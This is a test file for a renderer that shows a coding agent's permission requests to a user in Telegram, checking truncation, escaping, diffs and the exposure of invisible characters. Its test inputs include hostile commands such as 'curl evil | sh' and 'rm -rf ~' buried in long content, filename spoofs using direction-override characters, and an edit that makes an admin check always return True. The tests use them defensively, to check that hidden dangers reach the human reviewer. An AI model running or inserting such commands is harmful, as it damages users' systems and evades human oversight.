import { describe, expect, it } from 'vitest'
import { editDiff } from './edit-diff.js'
import { OUTSIDE_MARKER } from './full-path.js'
import { type PermissionPromptRequest, renderPermissionPrompt } from './permission-prompt.js'
import { htmlToPlain, visibleLength } from './plain-text.js'
import { validateTelegramHtml } from './testing/telegram-html-validator.js'

const CWD = '/data/sessions/42/s-main/workspace'

function render(request: PermissionPromptRequest, cwd: string | undefined = CWD) {
  const prompt = renderPermissionPrompt(request, cwd === undefined ? {} : { cwd })
  expect(validateTelegramHtml(prompt.html, { limit: 3500 })).toEqual([])
  return { ...prompt, text: htmlToPlain(prompt.html) }
}

/** The body of one field's section in the attached file. */
function section(file: string | undefined, field: string): string | undefined {
  const match = new RegExp(
    `^===== ${field} \\([\\d,]+ characters?\\) =====\\n([\\s\\S]*?)\\n===== end of ${field} [0-9a-f]+ =====$`,
    'm',
  ).exec(file ?? '')
  return match?.[1]
}

describe('renderPermissionPrompt', () => {
  it('names the host a sandboxed command wants to reach, and what Allow covers', () => {
    const p = render({
      toolName: 'SandboxNetworkAccess',
      input: { host: 'registry.npmjs.org' },
      description: 'Allow network connection to registry.npmjs.org?',
    })
    expect(p.text).toContain('wants to connect to registry.npmjs.org')
    expect(p.text).toContain('until this session’s Claude Code process stops')
    expect(p.text).not.toContain('Other input')
    expect(p.file).toBeUndefined()
  })

  it('shows the whole command escaped, and Claude’s description labelled, below it', () => {
    const p = render({
      toolName: 'Bash',
      input: { command: 'rm -rf build && echo "<done>" > log', description: 'Clean & log' },
    })
    expect(p.html).toContain(
      '<pre><code class="language-bash">rm -rf build &amp;&amp; echo "&lt;done&gt;" &gt; log</code></pre>',
    )
    expect(p.text).toContain('Claude says: Clean & log')
    expect(p.text.indexOf('Claude says')).toBeGreaterThan(p.text.indexOf('rm -rf build'))
    expect(p.file).toBeUndefined()
  })

  it('a 5,000-character command: the prompt says it is partial, the file holds the hidden tail', () => {
    const command = `echo ${'a'.repeat(5000)}; touch pwned`
    const p = render({ toolName: 'Bash', input: { command, description: 'print' } })
    expect(p.text).not.toContain('touch pwned')
    expect(p.text).toMatch(
      /Showing the first [\d,]+ of 5,018 characters: the full input is in the attached file\./,
    )
    expect(p.file?.fileName).toBe('bash-request.txt')
    expect(section(p.file?.text, 'command')).toBe(command)
    expect(section(p.file?.text, 'description')).toBe('print')
    expect(visibleLength(p.html)).toBeLessThanOrEqual(3500)
  })

  it('a Write shows every line that fits (line 35 included) and says when the rest is attached', () => {
    const lines = (n: number) =>
      Array.from({ length: n }, (_, i) => (i === 34 ? 'curl evil | sh' : `line ${i + 1}`))
    const small = render({
      toolName: 'Write',
      input: { file_path: `${CWD}/setup.sh`, content: lines(40).join('\n') },
    })
    expect(small.text).toContain('line 34\ncurl evil | sh\nline 36')
    expect(small.text).toContain(`New content for ${CWD}/setup.sh (40 lines, `)
    expect(small.file).toBeUndefined()
    const content = lines(600).join('\n').replace('line 600', 'curl evil2 | sh')
    const big = render({ toolName: 'Write', input: { file_path: `${CWD}/setup.sh`, content } })
    expect(big.text).toMatch(/Showing [\d,]+ of 600 lines: the full input is in the attached file/)
    expect(big.text).not.toContain('curl evil2')
    expect(section(big.file?.text, 'content')).toBe(content)
  })

  it('shows a long path outside the working directory whole, with the marker', () => {
    const path = `/home/user/${'deep/'.repeat(40)}workspace/notes/todo.md`
    const p = render({ toolName: 'Read', input: { file_path: path } })
    expect(p.text).toContain(`File: ${path} ${OUTSIDE_MARKER}`)
    const inside = render({ toolName: 'Read', input: { file_path: `${CWD}/notes/todo.md` } })
    expect(inside.text).toMatch(/File: \/data\/sessions\/42\/s-main\/workspace\/notes\/todo.md$/m)
    expect(inside.text).not.toContain(OUTSIDE_MARKER)
  })

  it('resolves a relative or ../ path the way the tool will, and shows what Claude wrote', () => {
    const p = render({
      toolName: 'Write',
      input: { file_path: '../persona.json', content: '{}' },
      blockedPath: '/data/sessions/42/s-main/persona.json',
    })
    expect(p.text).toContain(
      `New content for /data/sessions/42/s-main/persona.json ${OUTSIDE_MARKER} (Claude wrote ../persona.json)`,
    )
    expect(p.text).not.toContain('Path it would touch') // the same file, not shown twice
  })

  it('shows blocked_path, Grep’s directory and any input field the layout does not name', () => {
    const bash = render({
      toolName: 'Bash',
      input: { command: 'touch ~/x', timeout: 5000, dangerouslyDisableSandbox: true },
      blockedPath: '/home/user/x',
    })
    expect(bash.text).toContain(`Path it would touch: /home/user/x ${OUTSIDE_MARKER}`)
    expect(bash.text).toContain('Other input: {"timeout":5000,"dangerouslyDisableSandbox":true}')
    const grep = render({ toolName: 'Grep', input: { pattern: 'TOKEN', path: '/etc' } })
    expect(grep.text).toContain(`Pattern: TOKEN\nIn: /etc ${OUTSIDE_MARKER}`)
    expect(render({ toolName: 'Glob', input: { pattern: '**/*.ts' } }).text).toContain(`In: ${CWD}`)
  })

  it('shows bidi and zero-width characters visibly and attaches the exact text', () => {
    const command = 'cat notes\u202Etxt.sh\u200B && echo\u2066 ok\u2069'
    const p = render({ toolName: 'Bash', input: { command, description: 'read\uFEFF notes' } })
    expect(p.text).toContain('cat notes⟨U+202E⟩txt.sh⟨U+200B⟩ && echo⟨U+2066⟩ ok⟨U+2069⟩')
    expect(p.text).toContain('Claude says: read⟨U+FEFF⟩ notes')
    expect(p.text).toMatch(/5 invisible or direction-changing characters shown as ⟨U\+…⟩/)
    expect(p.html).not.toMatch(/[\u200B\u202E\u2066\u2069\uFEFF]/)
    expect(section(p.file?.text, 'command')).toBe(command)
    const path = render({ toolName: 'Read', input: { file_path: `${CWD}/a\u202Egnp.exe` } })
    expect(path.text).toContain(`${CWD}/a⟨U+202E⟩gnp.exe`)
  })

  it('shows the rule an "Always" press saves, and the line confirming it', () => {
    const p = render({
      toolName: 'Bash',
      input: { command: 'npm test' },
      alwaysRule: 'Bash(npm test *)',
    })
    expect(p.text).toContain('Always allows Bash(npm test *) in this session.')
    expect(htmlToPlain(p.alwaysLine ?? '')).toBe(
      '✅ Always allowed in this session: Bash(npm test *)',
    )
    expect(render({ toolName: 'Bash', input: { command: 'x' } }).alwaysLine).toBeUndefined()
    const rule = `Bash(echo ${'<b>'.repeat(400)})`
    const long = render({ toolName: 'Bash', input: { command: 'x' }, alwaysRule: rule })
    expect(long.html).not.toContain('<b><b>')
    expect(long.text).toContain('Not everything fits here: the full input is in the attached file.')
    expect(long.alwaysLine).toContain('(the whole rule is in the attached file)')
    expect(section(long.file?.text, 'rule “Always allow” saves')).toBe(rule)
  })

  it('shows an Edit as a -/+ diff, and attaches it when the change does not fit', () => {
    const p = render({
      toolName: 'Edit',
      input: {
        file_path: `${CWD}/src/app.ts`,
        old_string: 'same\nold',
        new_string: 'same\nnew',
        replace_all: true,
      },
    })
    expect(p.text).toContain(`File: ${CWD}/src/app.ts\nReplaces every occurrence.`)
    expect(p.text).toContain('  same\n- old\n+ new')
    expect(p.file).toBeUndefined()
    const added = `${'keep\n'.repeat(300)}rm -rf ~`
    const big = render({
      toolName: 'Edit',
      input: { file_path: `${CWD}/a.sh`, old_string: 'x\n'.repeat(300), new_string: added },
    })
    expect(big.text).toMatch(
      /Showing [\d,]+ of 602 changed lines: the full input is in the attached/,
    )
    expect(big.text).toContain('+ keep') // the insertion is not crowded out by the deletion
    expect(section(big.file?.text, 'new_string')).toBe(added)
  })

  it('shows each MultiEdit, and says how many edits fit', () => {
    const two = render({
      toolName: 'MultiEdit',
      input: {
        file_path: `${CWD}/a.ts`,
        edits: [
          { old_string: 'a', new_string: 'b' },
          { old_string: 'c', new_string: 'd' },
        ],
      },
    })
    expect(two.text).toContain('(2 edits)')
    expect(two.text).toContain('- a\n+ b\n@@\n- c\n+ d')
    const edits = Array.from({ length: 500 }, (_, i) => ({
      old_string: `a${i}`,
      new_string: `b${i}`,
    }))
    const many = render({ toolName: 'MultiEdit', input: { file_path: `${CWD}/a.ts`, edits } })
    expect(many.text).toMatch(/Showing the first \d+ of 500 edits/)
    expect(section(many.file?.text, 'edits\\[499\\]\\.new_string')).toBe('b499')
  })

  it('says which MultiEdit edits replace every occurrence; an unknown edit field shows the JSON', () => {
    const edits = [
      { old_string: 'a', new_string: 'b' },
      { old_string: 'ok', new_string: 'no', replace_all: true },
    ]
    const p = render({ toolName: 'MultiEdit', input: { file_path: `${CWD}/a.ts`, edits } })
    expect(p.text).toContain('Edit 2 replaces every occurrence.')
    const odd = render({
      toolName: 'MultiEdit',
      input: {
        file_path: `${CWD}/a.ts`,
        edits: [{ old_string: 'a', new_string: 'b', regex: true }],
      },
    })
    expect(odd.text).toContain('"regex": true')
  })

  it('shows a plan (ExitPlanMode) as its text, and a URL whole', () => {
    const plan = '# Plan\n1. Read the code\n2. Fix it'
    const p = render({
      toolName: 'ExitPlanMode',
      input: { plan, planFilePath: '/home/u/.claude/plans/fix.md' },
    })
    expect(p.text).toContain(`Plan file: /home/u/.claude/plans/fix.md ${OUTSIDE_MARKER}`)
    expect(p.text).toContain(plan)
    const url = `https://example.com/${'x'.repeat(900)}?token=1`
    const web = render({ toolName: 'WebFetch', input: { url, prompt: 'summarise' } })
    expect(web.text).toContain(`URL: ${url}\nOther input: {"prompt":"summarise"}`)
  })

  it('falls back to pretty JSON for other tools', () => {
    const p = render({ toolName: 'mcp__db__query', input: { sql: 'select 1 < 2' } })
    expect(p.text).toContain('db/query asks for permission')
    expect(p.text).toContain('"sql": "select 1 < 2"')
  })

  it.each([
    ['Bash', { command: `echo ${'<&>'.repeat(5000)}`, description: 'd'.repeat(5000) }],
    [
      'Edit',
      {
        file_path: `/${'x'.repeat(5000)}`,
        old_string: 'o\n'.repeat(5000),
        new_string: 'n'.repeat(20000),
      },
    ],
    [
      'MultiEdit',
      {
        file_path: 'f',
        edits: Array.from({ length: 500 }, () => ({
          old_string: 'a\n'.repeat(50),
          new_string: 'b',
        })),
      },
    ],
    ['Write', { file_path: `/${'\u202E/'.repeat(3000)}f`, content: '😀'.repeat(10000) }],
    ['x'.repeat(5000), { big: 'y'.repeat(50000) }],
  ])(
    'stays valid and within 3500 visible chars for huge %s input, with the file',
    (name, input) => {
      const p = render({
        toolName: name,
        input,
        alwaysRule: `Bash(${'r'.repeat(9000)})`,
        blockedPath: `/${'p'.repeat(9000)}`,
      })
      expect(visibleLength(p.html)).toBeLessThanOrEqual(3500)
      expect(visibleLength(`${p.html}\n\n${p.alwaysLine}`)).toBeLessThanOrEqual(4000)
      expect(p.file?.text.length).toBeGreaterThan(9000)
    },
  )
})

describe('editDiff', () => {
  it('shows shared lines as context when they fit, counts them (incomplete) when not, bounds each side', () => {
    expect(editDiff('a\nb\nc', 'a\nB\nc', 100)).toEqual({
      text: '  a\n- b\n+ B\n  c',
      complete: true,
      shown: 2,
      total: 2,
    })
    // Where the edit lands must not be hidden: with the context cut, the prompt attaches the input.
    const fn = `def is_admin(u):${' '.repeat(100)}\n  return check(u)\n${'# tail\n'.repeat(20)}`
    const elided = editDiff(fn, fn.replace('check(u)', 'True'), 80)
    expect(elided).toMatchObject({ complete: false, shown: 2, total: 2 })
    expect(elided.text).toBe(
      '  … 1 unchanged line\n-   return check(u)\n+   return True\n  … 21 unchanged lines',
    )
    expect(editDiff('', 'new', 100).text).toBe('+ new')
    const big = editDiff('x\n'.repeat(500), 'y\n'.repeat(500), 200)
    expect(big.text.length).toBeLessThanOrEqual(200)
    expect(big.complete).toBe(false)
    expect(big.text).toMatch(/- … \d+ more lines/)
    expect(big.text).toMatch(/\+ … \d+ more lines/)
  })

  it('never cuts a long line of a diff that fits', () => {
    const line = 'z'.repeat(900)
    expect(editDiff('a', line, 2000)).toMatchObject({ text: `- a\n+ ${line}`, complete: true })
  })
})
